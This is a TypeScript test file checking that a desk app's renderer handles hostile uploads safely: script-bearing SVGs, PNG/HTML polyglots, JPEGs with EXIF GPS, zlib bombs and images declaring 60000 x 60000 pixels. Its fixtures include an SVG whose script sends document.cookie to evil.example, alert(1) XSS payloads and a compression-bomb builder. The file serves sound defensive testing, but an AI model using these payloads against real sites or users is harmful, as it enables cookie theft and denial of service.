// The desk app shows a source's file only as what its bytes are, and never hands the browser those bytes:
// an SVG with script is text (or nothing), never an image; a PNG that is also HTML, and a JPEG with EXIF GPS,
// come back as a fresh PNG holding none of the original's metadata and the same pixels; hostile images (a
// truncated PNG, declared dimensions of 60000 x 60000, zlib bombs, interlaced or not) are refused without
// allocating for what they declare; random bytes are nothing; UTF-8 text and HTML are text.
import t from 'tap';
import { randomBytes } from 'node:crypto';
import { createDeflate, deflateSync } from 'node:zlib';
import jpeg from 'jpeg-js';
import pngjs from 'pngjs';
import { MAX_OUTPUT_SIDE, reencodeImage, renderKind, textOf } from '../client/desk/render.js';
import { chunk } from './helpers/png.js';

const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, interlace = 0): Buffer {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(width, 0);
  d.writeUInt32BE(height, 4);
  d[8] = 8; // depth
  d[9] = 6; // RGBA
  d[12] = interlace;
  return chunk('IHDR', d);
}

/** A small RGBA test pattern. */
function pattern(w: number, h: number): Buffer {
  const px = Buffer.alloc(w * h * 4);
  for (let y = 0; y < h; y++) for (let x = 0; x < w; x++) px.set([(x * 37) & 255, (y * 59) & 255, (x * y) & 255, 255], (y * w + x) * 4);
  return px;
}

function pngOf(w: number, h: number, px: Buffer, extra: Buffer[] = []): Buffer {
  const raw = Buffer.alloc(h * (w * 4 + 1));
  for (let y = 0; y < h; y++) px.copy(raw, y * (w * 4 + 1) + 1, y * w * 4, (y + 1) * w * 4);
  return Buffer.concat([PNG_SIG, ihdr(w, h), ...extra, chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

/** The same pixels as an Adam7-interlaced PNG (filter 0 on every row of every pass). */
function interlacedPngOf(w: number, h: number, px: Buffer): Buffer {
  const passes = [[0, 0, 8, 8], [4, 0, 8, 8], [0, 4, 4, 8], [2, 0, 4, 4], [0, 2, 2, 4], [1, 0, 2, 2], [0, 1, 1, 2]] as const;
  const rows: Buffer[] = [];
  for (const [x0, y0, dx, dy] of passes) {
    for (let y = y0; y < h; y += dy) {
      const cols: number[] = [];
      for (let x = x0; x < w; x += dx) cols.push(x);
      if (cols.length === 0) continue;
      const row = Buffer.alloc(1 + cols.length * 4);
      cols.forEach((x, i) => px.copy(row, 1 + i * 4, (y * w + x) * 4, (y * w + x) * 4 + 4));
      rows.push(row);
    }
  }
  return Buffer.concat([PNG_SIG, ihdr(w, h, 1), chunk('IDAT', deflateSync(Buffer.concat(rows))), chunk('IEND', Buffer.alloc(0))]);
}

function chunkTypes(png: Uint8Array): string[] {
  const b = Buffer.from(png);
  const types: string[] = [];
  for (let off = 8; off + 8 <= b.length; off += 12 + b.readUInt32BE(off)) types.push(b.toString('latin1', off + 4, off + 8));
  return types;
}

function includes(hay: Uint8Array, needle: string | Buffer): boolean {
  return Buffer.from(hay).includes(typeof needle === 'string' ? Buffer.from(needle, 'latin1') : needle);
}

t.test('an SVG with <script> and onload is text, never an image', async (t) => {
  const svg = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://evil.example/"+document.cookie)</script><rect width="10" height="10"/></svg>\n';
  t.equal(renderKind(new TextEncoder().encode(svg)), 'text');
  t.equal(reencodeImage(new TextEncoder().encode(svg)), undefined, 'not decoded as an image');
  // An SVG behind a UTF-16 BOM is not UTF-8: nothing at all.
  t.equal(renderKind(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg, 'utf16le')])), 'none');
});

t.test('a PNG that is also HTML/JS: re-encoded to the same pixels, with none of its other bytes', async (t) => {
  const w = 23, h = 17;
  const px = pattern(w, h);
  const html = '<html><body><script>alert("polyglot")</script></body></html>';
  const poly = pngOf(w, h, px, [
    chunk('tEXt', Buffer.from(`Comment\0${html}`, 'latin1')),
    chunk('iCCP', Buffer.concat([Buffer.from('evilprofile\0\0', 'latin1'), deflateSync(Buffer.from('ICC-PROFILE-SENTINEL'))])),
    chunk('eXIf', Buffer.from('MM\0*EXIF-SENTINEL-IN-PNG', 'latin1')),
    chunk('gAMA', Buffer.from([0, 0, 0xb1, 0x8f])),
  ]);
  t.ok(includes(poly, '<script>'), 'the source file does hold the script');
  t.equal(renderKind(poly), 'image');
  const out = reencodeImage(poly)!;
  t.ok(out, 're-encoded');
  t.same(chunkTypes(out), ['IHDR', 'IDAT', 'IEND'], 'only IHDR, IDAT, IEND: no text, ICC, EXIF or gamma chunk');
  for (const s of ['<script', 'polyglot', 'Comment', 'evilprofile', 'EXIF-SENTINEL', 'tEXt', 'iCCP', 'eXIf', 'gAMA']) t.notOk(includes(out, s), `no "${s}" in the output`);
  const back = pngjs.PNG.sync.read(Buffer.from(out));
  t.equal(back.width, w);
  t.equal(back.height, h);
  t.ok(Buffer.from(back.data).equals(px), 'the same RGBA pixels');
  t.not(Buffer.from(out).equals(poly), 'new bytes, not the original');
});

t.test('a JPEG with EXIF GPS: a PNG of its pixels, no EXIF, no comment', async (t) => {
  const w = 40, h = 24;
  const base = jpeg.encode({ width: w, height: h, data: pattern(w, h) }, 90).data;
  // APP1 "Exif\0\0" with a TIFF header and GPS tag text, and a COM segment, inserted after SOI.
  const exifBody = Buffer.concat([Buffer.from('Exif\0\0MM\0*\0\0\0\x08', 'latin1'), Buffer.from('GPSLatitude 48.8584N GPSLongitude 2.2945E SENTINEL-GPS', 'latin1')]);
  const app1 = Buffer.concat([Buffer.from([0xff, 0xe1]), Buffer.from([(exifBody.length + 2) >> 8, (exifBody.length + 2) & 255]), exifBody]);
  const comBody = Buffer.from('camera serial 12345 SENTINEL-COM', 'latin1');
  const com = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([(comBody.length + 2) >> 8, (comBody.length + 2) & 255]), comBody]);
  const src = Buffer.concat([base.subarray(0, 2), app1, com, base.subarray(2)]);
  t.ok(includes(src, 'SENTINEL-GPS'));
  t.equal(renderKind(src), 'image');
  const out = reencodeImage(src)!;
  t.ok(out);
  t.same(Array.from(out.subarray(0, 8)), Array.from(PNG_SIG), 'a PNG, whatever came in');
  t.same(chunkTypes(out), ['IHDR', 'IDAT', 'IEND']);
  for (const s of ['Exif', 'GPS', 'SENTINEL', 'camera serial', '48.8584']) t.notOk(includes(out, s), `no "${s}" in the output`);
  const expected = jpeg.decode(src, { useTArray: true, formatAsRGBA: true });
  const back = pngjs.PNG.sync.read(Buffer.from(out));
  t.equal(back.width, w);
  t.equal(back.height, h);
  t.ok(Buffer.from(back.data).equals(Buffer.from(expected.data)), 'the same pixels as the JPEG decodes to');
});

/** An upper bound on the resident memory (MB) `f` added at its peak: the process's peak RSS afterwards less the
 * RSS before (a decoder that allocated what the file declares would add gigabytes, or die). */
function growthMb(f: () => void): number {
  const before = process.memoryUsage().rss;
  f();
  return Math.max(0, process.resourceUsage().maxRSS * 1024 - before) / 1024 / 1024;
}

t.test('hostile images are refused without allocating what they declare', async (t) => {
  const good = pngOf(8, 8, pattern(8, 8));
  t.equal(reencodeImage(good.subarray(0, good.length - 20)), undefined, 'a truncated PNG');
  t.equal(renderKind(good.subarray(0, good.length - 20)), 'none');
  const flipped = Buffer.from(good);
  flipped[flipped.length - 20]! ^= 1; // inside IDAT: its CRC no longer matches
  t.equal(reencodeImage(flipped), undefined, 'a PNG with a bad CRC');
  t.equal(renderKind(Buffer.concat([PNG_SIG, Buffer.from('<html><script>alert(1)</script></html>')])), 'none', 'a PNG signature then HTML: neither image nor text');

  // 60000 x 60000 declared with a tiny IDAT: 14.4 GB of RGBA if believed.
  const huge = Buffer.concat([PNG_SIG, ihdr(60000, 60000), chunk('IDAT', deflateSync(Buffer.alloc(1000))), chunk('IEND', Buffer.alloc(0))]);
  let r: Uint8Array | undefined = new Uint8Array(1);
  const mbPng = growthMb(() => (r = reencodeImage(huge)));
  t.equal(r, undefined, 'a PNG declaring 60000 x 60000');
  t.ok(mbPng < 200, `memory grew ${mbPng.toFixed(1)} MB`);

  const small = Buffer.from(jpeg.encode({ width: 16, height: 16, data: pattern(16, 16) }, 80).data);
  const sof = small.indexOf(Buffer.from([0xff, 0xc0]));
  t.ok(sof > 0, 'the JPEG has a baseline SOF0');
  const bigJpeg = Buffer.from(small);
  bigJpeg.writeUInt16BE(60000, sof + 5); // height
  bigJpeg.writeUInt16BE(60000, sof + 7); // width
  const mbJpeg = growthMb(() => (r = reencodeImage(bigJpeg)));
  t.equal(r, undefined, 'a JPEG declaring 60000 x 60000');
  t.equal(renderKind(bigJpeg), 'none');
  t.ok(mbJpeg < 200, `memory grew ${mbJpeg.toFixed(1)} MB`);
  t.comment(`memory growth: PNG 60000x60000 ${mbPng.toFixed(1)} MB, JPEG 60000x60000 ${mbJpeg.toFixed(1)} MB`);

  // Zlib bombs: 1000 x 1000 declared (4 MB of pixels) whose IDAT inflates to 512 MB, plain and interlaced
  // (pngjs itself bounds only the plain case).
  const deflater = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflater.on('data', (d: Buffer) => parts.push(d));
  const ended = new Promise((resolve) => deflater.on('end', resolve));
  const zeros = Buffer.alloc(1024 * 1024);
  for (let i = 0; i < 512; i++) if (!deflater.write(zeros)) await new Promise((resolve) => deflater.once('drain', resolve));
  deflater.end();
  await ended;
  const bomb = Buffer.concat(parts);
  t.ok(bomb.length < 1024 * 1024, `the bomb is ${bomb.length} bytes`);
  for (const interlace of [0, 1]) {
    const png = Buffer.concat([PNG_SIG, ihdr(1000, 1000, interlace), chunk('IDAT', bomb), chunk('IEND', Buffer.alloc(0))]);
    const mb = growthMb(() => (r = reencodeImage(png)));
    t.equal(r, undefined, `a zlib bomb (interlace ${interlace})`);
    t.ok(mb < 200, `memory grew ${mb.toFixed(1)} MB (interlace ${interlace})`);
  }
});

t.test('interlaced PNGs of every size class decode to the same pixels', async (t) => {
  for (const [w, h] of [[1, 1], [3, 2], [7, 5], [8, 8], [9, 17], [31, 9]] as const) {
    const px = pattern(w, h);
    const out = reencodeImage(interlacedPngOf(w, h, px));
    t.ok(out, `${w} x ${h} decoded`);
    if (out) t.ok(Buffer.from(pngjs.PNG.sync.read(Buffer.from(out)).data).equals(px), `${w} x ${h}: the same pixels`);
  }
});

t.test('a wide image is scaled down to a bounded size', async (t) => {
  const w = 5000, h = 3;
  const out = reencodeImage(pngOf(w, h, pattern(w, h)))!;
  const back = pngjs.PNG.sync.read(Buffer.from(out));
  t.ok(back.width <= MAX_OUTPUT_SIDE, `width ${back.width}`);
  t.equal(back.height, 2);
});

t.test('random bytes are nothing; UTF-8 text and HTML are text', async (t) => {
  for (let i = 0; i < 20; i++) t.equal(renderKind(new Uint8Array(randomBytes(4096))), 'none');
  t.equal(renderKind(new TextEncoder().encode('Hallo, München! ¿Qué tal? 東京 🙂\n\tline two\r\n')), 'text');
  t.equal(renderKind(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('with a BOM\n')])), 'text');
  t.equal(renderKind(new TextEncoder().encode('<!doctype html><html><body onload="x()"><script>alert(1)</script></body></html>')), 'text');
  t.equal(renderKind(new TextEncoder().encode('a\0b')), 'none', 'a NUL byte');
  t.equal(renderKind(Buffer.from([0x61, 0xc3, 0x28, 0x62])), 'none', 'invalid UTF-8');
  t.equal(renderKind(new TextEncoder().encode('x\x1b[31m'.repeat(50))), 'none', 'full of control characters');
  const shown = textOf(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('ok\x1b]0;title\x07 done\n')]));
  t.equal(shown.text, 'ok\ufffd]0;title\ufffd done\n', 'BOM dropped, control characters replaced');
  const long = textOf(new TextEncoder().encode('🙂'.repeat(10)), 5);
  t.equal(long.truncated, true);
  t.equal(long.text, '🙂🙂', 'cut at the limit, never inside a surrogate pair');
});
